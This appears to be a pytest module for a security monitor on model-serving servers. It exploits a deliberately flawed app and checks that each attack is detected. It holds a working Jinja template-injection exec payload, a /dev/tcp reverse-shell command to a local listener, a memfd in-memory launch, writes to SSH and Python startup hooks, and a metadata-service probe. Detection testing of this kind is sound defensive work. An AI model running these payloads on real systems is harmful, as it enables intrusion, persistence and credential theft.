"""Servers that are taken over while they serve a clean model, through a template injection that is really
exploited over HTTP.
"""

from __future__ import annotations

import json
import shutil

import pytest

from deploy.demo import models
from deploy.demo.client import Callee
from deploy.demo.expect import PYTHON, SHELL, Expected
from deploy.demo.place import ModelServer
from tests.attacks.isolation import ALONE, METADATA, network_of
from tests.stack import Whole

pytestmark = [pytest.mark.kernel, pytest.mark.attack]

_KNOCK = """
import socket
try:
    socket.create_connection(("{address}", 80), 1)
except OSError:
    pass
"""


def _serve(whole: Whole, name: str) -> ModelServer:
    """A server with the flaw, in service with a clean model."""
    path = whole.place.models / f"{name}.joblib"
    models.write_classifier(path)
    server = whole.place.uvicorn("flawed_app", path).wait()
    for _ in range(20):
        server.client.report("Report")
    return server


def _execute(server: ModelServer, code: str) -> None:
    """Run Python in the server, in the thread that answers the request."""
    server.client.report("{{ cycler.__init__.__globals__.__builtins__.exec(" + json.dumps(code) + ") }}")


def test_credentials_read_through_the_flaw_are_detected_with_the_model_in_service(whole: Whole) -> None:
    server = _serve(whole, "oriole")
    assert "opens-nothing" in server.client.read_through(str(whole.place.credentials))
    whole.detects(server, Expected("credential_read", ("serve",), (PYTHON,), server.model))


def test_program_run_through_the_flaw_is_detected_with_the_model_in_service(whole: Whole) -> None:
    server = _serve(whole, "bunting")
    assert server.client.run_through("id -un").strip() == "root"
    whole.detects(server, Expected("exec_in_serve", ("serve",), (PYTHON, SHELL), server.model))


def test_reverse_shell_through_the_flaw_is_detected(whole: Whole) -> None:
    server = _serve(whole, "godwit")
    callee = Callee("echo $((20 + 3))\nexit\n")
    server.client.run_through(f"bash -c 'bash 0<>/dev/tcp/127.0.0.1/{callee.port} 1>&0 2>&0'")
    assert callee.wait().strip() == "23"
    callee.close()
    whole.detects(
        server,
        Expected("exec_in_serve", ("serve",), (PYTHON, SHELL), server.model),
        Expected("reverse_shell", ("serve",), (PYTHON, SHELL, "bash"), server.model),
    )


def test_program_started_from_memory_is_detected(whole: Whole) -> None:
    server = _serve(whole, "knot")
    program = shutil.which("true")
    _execute(
        server,
        "import os, subprocess\n"
        f"fd = os.memfd_create('x'); os.write(fd, open({program!r}, 'rb').read())\n"
        "subprocess.call([f'/proc/self/fd/{fd}'], pass_fds=[fd])\n",
    )
    whole.detects(
        server,
        Expected("exec_in_serve", ("serve",), (PYTHON,), server.model),
        Expected("exec_from_memory", ("serve",), (PYTHON,), server.model),
    )


def test_program_that_is_younger_than_the_server_is_detected(whole: Whole) -> None:
    server = _serve(whole, "ruff")
    program = str(whole.place.home / "fresh")
    _execute(
        server,
        f"import shutil, subprocess\nshutil.copy({shutil.which('true')!r}, {program!r})\nsubprocess.call([{program!r}])\n",
    )
    whole.detects(
        server,
        Expected("exec_in_serve", ("serve",), (PYTHON, "fresh"), server.model),
        Expected("exec_new_file", ("serve",), (PYTHON, "fresh"), server.model),
    )


@pytest.mark.parametrize(
    ("name", "hook"),
    [
        ("dipper", ".ssh/authorized_keys"),
        ("ouzel", ".local/lib/python3.11/site-packages/extra.pth"),
        ("heron", ".local/lib/python3.11/site-packages/sitecustomize.py"),
    ],
)
def test_write_to_what_runs_at_the_next_start_is_detected(whole: Whole, name: str, hook: str) -> None:
    server = _serve(whole, name)
    path = whole.place.home / hook
    path.parent.mkdir(parents=True, exist_ok=True)
    _execute(server, f"open({str(path)!r}, 'a').write('# nothing')")
    assert path.exists()
    path.unlink()
    whole.detects(server, Expected("startup_hook_write", ("serve",), (PYTHON,), server.model))


def test_metadata_service_asked_in_serve_is_detected(whole: Whole) -> None:
    path = whole.place.models / "grebe.joblib"
    models.write_classifier(path)
    server = whole.place.uvicorn("flawed_app", path, before=ALONE)
    with network_of(server.pid):
        server.wait()
        for _ in range(20):
            server.client.report("Report")
        _execute(server, _KNOCK.format(address=METADATA))
    whole.detects(server, Expected("metadata_in_serve", ("serve",), (PYTHON,), server.model))
